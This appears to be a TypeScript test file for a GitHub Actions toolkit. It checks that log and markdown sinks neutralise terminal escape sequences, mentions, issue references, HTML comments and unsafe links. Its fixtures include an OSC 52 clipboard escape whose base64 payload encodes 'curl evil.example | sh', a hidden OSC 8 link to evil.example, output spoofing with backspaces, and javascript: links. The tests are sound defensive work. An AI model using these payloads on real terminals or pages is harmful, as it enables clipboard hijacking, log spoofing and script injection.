/**
 * Hostile text from real attack write-ups, through the kit's sinks: terminal
 * escapes into the log and `::error::` data, mentions and references after
 * any non-word character into markdown (rendered by cmark-gfm, GitHub's
 * renderer, then GitHub's mention and reference rules), and the test
 * helper's own detector, which must flag what it exists to find.
 */
import { ActionFailure } from '../src/errors';
import { table } from '../src/markdown';
import { reportFailure } from '../src/runtime';
import { commandData, logText, terminalSafe } from '../src/sinks/log';
import { code, mdText } from '../src/sinks/markdown';
import {
  NO_HAZARDS,
  foreignTags,
  hazards,
  liveMentions,
  liveReferences,
  renderMarkdown,
  unsafeLinks,
} from '../../../test/support/untrusted';

const ESC = '\x1b';
const TERMINAL_ATTACKS: Array<[string, string, string]> = [
  ['erase line and cursor up (hiding a line)', `ok${ESC}[2K${ESC}[1Aall good`, 'ok\\x1b[2K\\x1b[1Aall good'],
  ['OSC 52: write the clipboard', `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`, '\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07'],
  [
    'OSC 8: a hidden link',
    `${ESC}]8;;https://evil.example${ESC}\\docs${ESC}]8;;${ESC}\\`,
    '\\x1b]8;;https://evil.example\\x1b\\docs\\x1b]8;;\\x1b\\',
  ],
  ['C1 CSI (one byte for ESC [)', 'a\x9b2Kb', 'a\\x9b2Kb'],
  ['backspaces over a word', 'FAILED\b\b\b\b\b\bPASSED', 'FAILED\\x08\\x08\\x08\\x08\\x08\\x08PASSED'],
  ['DEL and NUL', 'a\x7fb\x00c', 'a\\x7fb\\x00c'],
];

/** What a terminal would act on: any C0 control but tab and newline, DEL, C1. */
// eslint-disable-next-line no-control-regex
const CONTROLS = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

describe('terminal-safe logs', () => {
  it.each(TERMINAL_ATTACKS)('%s is shown as text, in log lines and in command data', (_name, attack, shown) => {
    expect(logText(attack)).toBe(shown);
    expect(commandData(attack)).toBe(shown);
    expect(CONTROLS.test(logText(attack))).toBe(false);
  });

  it('keeps tabs and newlines, and turns a bare CR into a line break', () => {
    expect(logText('a\tb\nc\rd')).toBe('a\tb\nc\nd');
    expect(terminalSafe('a\tb\nc')).toBe('a\tb\nc');
  });

  it('prints an ::error:: line and its details with every escape shown as text', () => {
    const written: string[] = [];
    const write = process.stdout.write;
    process.stdout.write = ((chunk: string) => written.push(String(chunk)) > 0) as typeof process.stdout.write;
    try {
      reportFailure(new ActionFailure(`Lambda said: ${TERMINAL_ATTACKS[1]![1]}`, [`log tail: ${TERMINAL_ATTACKS[2]![1]}`]));
    } finally {
      process.stdout.write = write;
    }
    const out = written.join('');
    expect(CONTROLS.test(out)).toBe(false);
    expect(out).toContain('log tail: \\x1b]8;;https://evil.example\\x1b\\docs');
    expect(out).toContain('::error::Lambda said: \\x1b]52;c;');
  });
});

const MENTIONS = [
  '`@acme/ml-oncall please look',
  '\\@octocat',
  '(@octocat)',
  '"@octocat"',
  'é@octocat',
  '*@octocat*',
  '~@octocat',
  '@octocat',
  'x:@org/team',
];

describe('mentions and references, whatever stands before them', () => {
  it.each(MENTIONS)('%s notifies nobody, in text and in a table cell', (text) => {
    // The detector sees the raw text as GitHub would: a live mention.
    expect(liveMentions(renderMarkdown(text.replace(/^`/, '\\`')))).not.toEqual([]);
    expect(hazards(`${mdText(text)}\n`)).toEqual(NO_HAZARDS);
    expect(hazards(`${table(['a'], [[text]])}\n`)).toEqual(NO_HAZARDS);
  });

  it.each(['fixes #123', '(#7)', 'acme/app#12', 'GH-99', 'commit 1a2b3c4d'])('%s links nothing', (text) => {
    expect(liveReferences(renderMarkdown(text))).not.toEqual([]);
    expect(hazards(`${mdText(text)}\n`)).toEqual(NO_HAZARDS);
  });

  it('keeps digests, emails-as-text and our code spans readable', () => {
    expect(mdText('repo@sha256:abc')).toBe('repo@sha256:abc');
    expect(hazards(`${code('@octocat #1 1a2b3c4d')}\n`)).toEqual(NO_HAZARDS);
  });
});

describe("the test helper's detector finds what it is for", () => {
  it('closing tags, comments and javascript: links', () => {
    expect(foreignTags('<details><summary>a</summary></details></details><p>x</p>')).toEqual(['/details']);
    expect(foreignTags(renderMarkdown('a\n\n<!-- hides the rest -->\n'))).toEqual(['!--']);
    expect(foreignTags('<!-- mlship:deployment-summary title="x" -->')).toEqual([]);
    expect(unsafeLinks(renderMarkdown('[x](javascript:alert(1)) ![i](data:image/png;base64,AA) [ok](https://example.com)'))).toEqual([
      'javascript:alert(1)',
      'data:image/png;base64,AA',
    ]);
  });

  it.each([
    ['a closing tag of ours with none open', '</details>', 'tags', ['/details']],
    ['a closing tag we never write', 'a </span> b', 'tags', ['/span']],
    ['an HTML comment', 'a <!-- hides the rest --> b', 'tags', ['!--']],
    [
      'a javascript: link whose text ends in https://',
      '[x](javascript:alert(1)//https://a.example)',
      'links',
      ['javascript:alert(1)//https://a.example'],
    ],
    ['a mention after a backslash', '\\@octocat', 'mentions', ['octocat']],
    ['a mention after a bracket', '[@octocat]', 'mentions', ['octocat']],
    ['a mention after a non-ASCII letter', 'é@octocat', 'mentions', ['octocat']],
  ])('flags %s', (_name, markdown, kind, found) => {
    expect(hazards(`${markdown}\n`)).toEqual({ ...NO_HAZARDS, [kind]: found });
  });

  it('does not flag an e-mail-like word, our own comment marker or a link to https', () => {
    expect(hazards('repo@sha256 and <!-- mlship:deployment-summary title="x" --> and [ok](https://example.com)\n')).toEqual(NO_HAZARDS);
  });

  it('bare URLs, which GitHub autolinks, never come from escaped text', () => {
    const html = renderMarkdown(`${mdText('see https://evil.example/x and www.evil.example and a@evil.example')}\n`);
    expect(html).not.toContain('<a ');
  });
});
